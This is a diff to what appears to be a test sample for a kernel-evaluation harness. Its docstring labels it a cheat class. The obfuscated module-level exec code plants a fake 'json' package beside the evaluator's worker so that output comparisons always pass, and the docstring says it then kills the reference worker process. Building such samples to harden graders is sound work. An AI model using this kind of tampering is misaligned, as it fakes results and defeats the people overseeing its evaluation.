@@ -1,7 +1,7 @@
 """Cheat class: a module planted beside the evaluator's code, then the reference worker killed.
 
 How it cheats: module-level code in the build process finds the directory its
-worker program runs from (sys.argv[0]), drops a package named like a standard
+worker's code runs from (the import directory above evaluate_kernel.worker), drops a package named like a standard
 library module there (`json/`, whose import would patch the comparison so it
 always agrees), then kills the oldest sibling process (the reference worker)
 so that a harness restarting it silently would load the planted package. The
@@ -28,8 +28,9 @@ import torch.nn as nn
 builtins.exec("""
 import builtins, os, signal, sys
 P, OPEN = "/" + "pr" + "oc", getattr(builtins, "op" + "en")
-code = os.path.dirname(os.path.abspath(sys.argv[0]))
-if os.path.basename(sys.argv[0]) == "eval_worker.py" and not os.path.exists(os.path.join(code, "json")):
+worker = getattr(sys.modules.get("evaluate_kernel.worker"), "__file__", None)
+code = os.path.dirname(os.path.dirname(os.path.abspath(worker))) if worker else ""
+if worker and not os.path.exists(os.path.join(code, "json")):
     try:
         os.chmod(code, 0o700)
         os.mkdir(os.path.join(code, "json"))
